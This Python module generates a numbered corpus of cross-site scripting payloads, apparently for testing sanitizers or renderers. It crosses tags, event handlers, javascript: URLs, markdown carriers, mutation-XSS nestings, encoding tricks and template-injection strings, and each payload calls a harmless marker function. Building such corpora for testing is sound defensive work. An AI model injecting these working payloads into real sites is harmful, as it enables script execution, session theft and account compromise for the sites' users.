"""Eight hundred and more strings that try to run as script wherever a person's words are shown.

Built from parts, so that every way in meets every way of hiding it. Each calls `xq(n)` with its own number: when one
runs, the browser says which.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "xq(N)"  # N becomes the string's number

_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "select autofocus",
    "textarea autofocus", "details open", "marquee", "iframe src=about:blank", "object data=x", "embed src=x",
    "math", "a href=# autofocus", "button autofocus", "x-any tabindex=1 autofocus", "style",
    "link rel=stylesheet href=x",
    "source src=x", "track src=x", "image src=x",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "OnPointerEnter")
_JOINS = (" {0}={1}", "/{0}='{1}'", '\n{0}\n=\n"{1}"', "\t{0}=`{1}`")
_SCRIPTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT >", "<script\n>{0}</script\n>", "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<script>{0}", "<<script>{0}//<</script>",
    "<script src=data:,{0}></script>",
    "<script type=module>{0}</script>", "<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} /></svg>",
    "<math><script>{0}</script></math>", "<!--><script>{0}</script>-->", "<![CDATA[<script>{0}</script>]]>",
    "<noscript><script>{0}</script></noscript>", "<template><script>{0}</script></template>",
    "<table><script>{0}</script></table>", "<p><script>{0}</script></p>", "</p><script>{0}</script>",
    "> <script>{0}</script>", "- <script>{0}</script>", "    <script>{0}</script>", "`<script>{0}</script>`",
    "```\n<script>{0}</script>\n```", "| a | <script>{0}</script> |\n| - | - |\n| b | c |", "### <script>{0}</script>",
    "**<script>{0}</script>**", "1. <script>{0}</script>", "***\n<script>{0}</script>", "\\<script>{0}\\</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "java\tscript:{0}", "java\nscript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}", "&#x6A;avascript:{0}", "\x01javascript:{0}", "javascript://x%0a{0}", "vbscript:{0}",
    "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD54cSgwKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={0}>", "view-source:javascript:{0}", "feed:javascript:{0}", "blob:javascript:{0}",
    "javascript:/*--></title></style></textarea></script>*/{0}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{0}">a</a>', '<iframe src="{0}"></iframe>', '<form action="{0}"><button>a</button></form>',
    '<object data="{0}"></object>', '<svg><a xlink:href="{0}"><text y=9>a</text></a></svg>',
    '<math href="{0}">a</math>', '<meta http-equiv=refresh content="0;url={0}">', '<base href="{0}/">',
    '<button formaction="{0}">a</button>',
    "[a]({0})", "[a](<{0}>)", "<{0}>", "![a]({0})", "[a][b]\n\n[b]: {0}", '[a]({0} "title")', "[![a](x)]({0})",
    "[a](x\" onmouseover=\"{0})", "{0}",
)  # fmt: skip
_BREAKS = (
    "</textarea>", "</title>", '">', "'>", "</script>", "-->", "</style>", "</noscript>", "</template>",
    "</option></select>", "</td></tr></table>", "]]>", "</svg>", "</details>", "\" autofocus onfocus=xq(N) x=\"",
)  # fmt: skip
_AFTER = (
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<script>{0}</script>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
)
_STYLES = (
    "<style>@import 'data:text/css,*{{x:expression({0})}}';</style>", '<p style="background:url(javascript:{0})">a</p>',
    '<p style="width:expression({0})">a</p>', '<p style="animation:a 1s" onanimationstart={0}>a</p>',
    '<style>@keyframes a{{}}</style><p style="animation-name:a" onanimationend={0}>a</p>',
    '<p style="behavior:url(x)" onmouseover={0}>a</p>', '<link rel=stylesheet href="data:text/css,a{{}}" onload={0}>',
)  # fmt: skip
_MUTATIONS = (
    "<svg><style><img src=x onerror={0}></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<svg><title><img src=x onerror={0}></title></svg>", "<svg><foreignObject><iframe srcdoc=x onload={0}>",
    "<math><annotation-xml encoding=text/html><svg onload={0}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<table><td><svg><desc><td><svg/onload={0}>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={0}>'>",
    "<p><svg></p><style><a id='</style><img src=x onerror={0}>'>", "<xmp><svg onload={0}></xmp>",
    "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text y=9>a</text></a></svg>",
    "<svg><set attributeName=onload to={0} /></svg>",
    "<a href=x id=xq>a</a><form name=body><input name=cookie onfocus={0}>",
)  # fmt: skip
_ENCODINGS = (
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "%3Cscript%3E{0}%3C/script%3E", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;img src=x onerror={0}&#x3e;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "\u02c2script\u02c3{0}", "<\x00script>{0}</script>",
    "<img src=x onerror\x00={0}>",
    "<img\x0bsrc=x onerror={0}>", "<img\x0csrc=x\x0conerror={0}>", "\ufeff<script>{0}</script>",
    "\u202e<script>{0}</script>",
    "<img src=x onerror=eval(atob('eHEoMCk='))>//{0}", "<img src=x onerror=&#x78;q(N)>", "&amp;lt;script&amp;gt;{0}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {0} }}}}", "{{% if {0} %}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "{{{{constructor.constructor('{0}')()}}}}",
    "{{{{ ''.__class__ }}}}{0}", "[[{0}]]", "*{{{0}}}", "`${{{0}}}`",
)  # fmt: skip


def _strings() -> Iterator[str]:
    for tag, handler, join in product(_TAGS, _HANDLERS, _JOINS):
        yield f"<{tag}{join.format(handler, CALL)}>"
    for carrier, address in product(_CARRIERS, _ADDRESSES):
        yield carrier.format(address.format(CALL))
    for before, after in product(_BREAKS, _AFTER):
        yield before + after.format(CALL)
    for group in (_SCRIPTS, _STYLES, _MUTATIONS, _ENCODINGS, _TEMPLATES):
        for one in group:
            yield one.format(CALL)


def corpus() -> list[str]:
    """Every string once, each with its own number in its call."""
    return [one.replace("xq(N)", f"xq({number})") for number, one in enumerate(dict.fromkeys(_strings()))]
